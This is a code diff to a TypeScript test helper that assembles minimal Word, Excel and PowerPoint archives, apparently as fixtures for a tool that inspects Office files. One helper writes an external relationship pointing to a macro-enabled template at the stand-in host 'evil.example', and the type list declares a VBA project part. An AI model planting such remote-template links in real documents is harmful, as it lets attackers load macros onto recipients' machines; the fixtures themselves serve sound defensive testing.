@@ -1,7 +1,7 @@
 import { crc32, deflateRawSync } from 'node:zlib';
 
-/** An archive of these texts, as any writer would make it. */
-export function zipOf(files: Readonly<Record<string, string>>): Buffer {
+/** An archive of these files, as any writer would make it. */
+export function zipOf(files: Readonly<Record<string, string | Buffer>>): Buffer {
   const locals: Buffer[] = [];
   const central: Buffer[] = [];
   let at = 0;
@@ -33,3 +33,59 @@ export function zipOf(files: Readonly<Record<string, string>>): Buffer {
   end.writeUInt32LE(at, 16);
   return Buffer.concat([...locals, directory, end]);
 }
+
+type Parts = Readonly<Record<string, string | Buffer>>;
+
+export const rels = (more = '') =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${more}</Relationships>`;
+
+/** A relation to what lies elsewhere. */
+export const external = (type: string) =>
+  rels(
+    `<Relationship Id="r2" Type="http://x/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+  );
+
+const list = (part: string, main: string, more: string) =>
+  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/${part}" ContentType="${main}"/>${more}</Types>`;
+const office = 'application/vnd.openxmlformats-officedocument';
+
+/** A list of types whose main part is of a format. */
+export const typesOf = (part: string, format: string, more = '') =>
+  list(part, `${office}.${format}.main+xml`, more);
+export const types = (main = `${office}.wordprocessingml.document.main+xml`, more = '') =>
+  list('word/document.xml', main, more);
+
+const plainLink =
+  '<Relationship Id="r1" Type="http://x/hyperlink" Target="https://example.com" TargetMode="External"/>';
+
+/** A document of Word with more in it. */
+export const word = (more: Parts = {}) =>
+  zipOf({
+    '[Content_Types].xml': types(),
+    '_rels/.rels': rels(),
+    'word/document.xml': '<?xml version="1.0"?><w:document/>',
+    'word/_rels/document.xml.rels': rels(plainLink),
+    ...more,
+  });
+
+/** The same of Excel. */
+export const workbook = (more: Parts = {}) =>
+  zipOf({
+    '[Content_Types].xml': typesOf('xl/workbook.xml', 'spreadsheetml.sheet'),
+    '_rels/.rels': rels(),
+    'xl/workbook.xml': '<workbook/>',
+    ...more,
+  });
+
+/** The same of PowerPoint. */
+export const deck = (more: Parts = {}) =>
+  zipOf({
+    '[Content_Types].xml': typesOf('ppt/presentation.xml', 'presentationml.presentation'),
+    '_rels/.rels': rels(),
+    'ppt/presentation.xml': '<p:presentation/>',
+    ...more,
+  });
+
+/** A document of so many parts that have nothing in them. */
+export const wideZip = (parts: number) =>
+  word(Object.fromEntries(Array.from({ length: parts }, (_, at) => [`word/p${at}.bin`, ''])));
